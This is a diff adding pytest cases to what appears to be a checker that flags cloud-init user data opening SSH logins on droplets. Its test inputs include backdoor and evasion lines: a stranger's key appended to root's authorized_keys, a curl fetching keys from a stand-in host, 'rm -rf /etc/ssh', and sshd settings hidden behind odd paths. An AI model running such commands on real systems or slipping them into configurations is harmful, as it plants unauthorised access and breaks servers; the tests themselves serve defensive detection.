@@ -13,7 +13,7 @@ from policies.readers.state import Stack
 from promises.model import Catalog
 from promises.observations import Outcome
 from tests.policies.controls.cases import Broken
-from tests.policies.controls.compliant import CATALOG, KEYS, plus, stack
+from tests.policies.controls.compliant import CATALOG, KEYS, PUBLIC_KEY, USER_DATA, plus, put, stack
 from tests.policies.controls.test_plan import NOW, UNKNOWN
 
 SHARING = replace(CATALOG, shares_account_with=("lumina",))
@@ -70,3 +70,72 @@ def test_a_key_whose_limits_are_not_known_is_not_left_to_another_platform() -> N
 def test_drift_leaves_out_what_is_declared_to_be_anothers(catalog: Catalog, expected: str | None) -> None:
     told = {each.subject: each.why for each in compare(stack(LUMINA_HOST), stack(), (DROPLET,), catalog)}
     assert told.get("droplet lumina-app-1") == expected
+
+
+STRANGER = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB7Jc0uQ6b1mYvW2k8m4XkQ2Zf1nT3oR5pS6qU7wV8xY"
+PART = "/etc/ssh/sshd_config.d/10-kept.conf"
+
+
+def written(path: str, content: str) -> str:
+    """The user data with one more file."""
+    return USER_DATA.replace("runcmd:", f"  - {{path: '{path}', content: '{content}'}}\nruncmd:")
+
+
+def commanded(command: str) -> str:
+    return f"{USER_DATA}  - {command}\n"
+
+
+LET_IN = {
+    "a user by name with a password": f"{USER_DATA}users: {{x: {{lock_passwd: true, hashed_passwd: $6$x}}}}\n",
+    "a user by name that is not locked": f"{USER_DATA}users: {{x: {{lock_passwd: false}}}}\n",
+    "a user by name with a stranger's key": f"{USER_DATA}users: {{x: {{ssh_authorized_keys: ['{STRANGER}']}}}}\n",
+    "one user for a list": f"{USER_DATA}users: {{name: x, plain_text_passwd: y}}\n",
+    "the default user, not locked": f"{USER_DATA}user: {{name: x, lock_passwd: false}}\n",
+    "the default user, with a word for no": f"{USER_DATA}user: {{name: x, lock-passwd: 0}}\n",
+    "the default user, with a password": f"{USER_DATA}user: {{name: x, passwd: $6$x}}\n",
+    "the default user, with a stranger's key": f"{USER_DATA}user: {{ssh-authorized-keys: ['{STRANGER}']}}\n",
+    "a script with a stranger's key": written("/usr/local/bin/x", f"echo {STRANGER} >> /root/.ssh/authorized_keys"),
+    "a script with a stranger's key in a variable": written("/usr/local/bin/x", f'key="{STRANGER}"'),
+    "a script that fetches keys": written("/usr/local/bin/x", "curl https://x.example >> /root/.ssh/authorized_keys"),
+    "keys in a file for everybody": USER_DATA.replace("prohibit-password", "no\n      AuthorizedKeysFile /etc/ssh/keys/%u"),
+    "an authority for users": USER_DATA.replace("prohibit-password", "no\n      TrustedUserCAKeys /etc/ssh/ca.pub"),
+    "principals of an authority": USER_DATA.replace("prohibit-password", "no\n      AuthorizedPrincipalsFile /etc/ssh/p"),
+    "principals by a command": USER_DATA.replace("prohibit-password", "no\n      AuthorizedPrincipalsCommand /bin/p"),
+    "tickets": USER_DATA.replace("prohibit-password", "no\n      GSSAPIAuthentication yes"),
+    "passwords by Kerberos": USER_DATA.replace("prohibit-password", "no\n      KerberosAuthentication yes"),
+    "a file from elsewhere": USER_DATA.replace("prohibit-password", "no\n      Include /opt/sshd"),
+    "a keyword in quotes": USER_DATA.replace("prohibit-password", 'no\n      "PermitEmptyPasswords" yes'),
+    "root, in a path with two slashes": written("/etc/ssh//sshd_config.d/01.conf", "PermitRootLogin yes"),
+    "empty passwords, in a path with two slashes": written("//etc/ssh//sshd_config.d/01.conf", "PermitEmptyPasswords yes"),
+    "root, in a path with dots": written("/etc/./x/../ssh/sshd_config.d/01.conf", "PermitRootLogin yes"),
+    "root, in a path from nowhere": written("etc/ssh/sshd_config", "PermitRootLogin yes"),
+    "what must be said, in a file that sshd does not read": USER_DATA.replace("10-kept.conf", "10-kept.txt"),
+    "a command that edits sshd's file": commanded("sed -i s/no/yes/ /etc/ssh/sshd_config.d/10-kept.conf"),
+    "a command that takes sshd's file away": commanded(f"[rm, -f, {PART}]"),
+    "a command that takes sshd's folder away": commanded("rm -rf /etc/ssh"),
+    "a command that takes all of sshd's files away": commanded("rm -f /etc/ssh/sshd*"),
+    "a script that edits sshd's file": written("/usr/local/bin/x", "sed -i s/no/yes/ /etc/ssh/sshd_config"),
+}
+KEPT_OUT = {
+    "users by name without a password": f'{USER_DATA}users: {{x: {{lock_passwd: true, hashed_passwd: "!"}}}}\n',
+    "a locked default user with a declared key": f"{USER_DATA}user: {{name: x, lock_passwd: true, ssh_authorized_keys: ['{PUBLIC_KEY}']}}\n",
+    "the default user by its name": f"{USER_DATA}user: x\n",
+    "the usual files of keys": USER_DATA.replace("prohibit-password", "no\n      AuthorizedKeysFile .ssh/authorized_keys"),
+    "no authority for users": USER_DATA.replace("prohibit-password", "no\n      TrustedUserCAKeys none"),
+    "good words in a path with two slashes": written("/etc/ssh//sshd_config.d/01.conf", "PermitRootLogin no"),
+    "a script that reads who may log in": written("/usr/local/bin/x", "ssh-keygen -lf /root/.ssh/authorized_keys"),
+    "a command that reads the host's key": commanded("ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub"),
+}
+
+
+@pytest.mark.parametrize("case", LET_IN)
+def test_a_way_in_is_seen_however_it_is_written(case: str) -> None:
+    assert LET_IN[case] != USER_DATA
+    seen = stack(put("jobs0", "userData", LET_IN[case]))
+    assert of(Outcome.FAIL, seen) == {"ssh.plan": "logins of droplet jobs0"}
+
+
+@pytest.mark.parametrize("case", KEPT_OUT)
+def test_what_lets_nobody_in_is_no_fault(case: str) -> None:
+    assert KEPT_OUT[case] != USER_DATA
+    assert of(Outcome.FAIL, stack(put("jobs0", "userData", KEPT_OUT[case]))) == {}
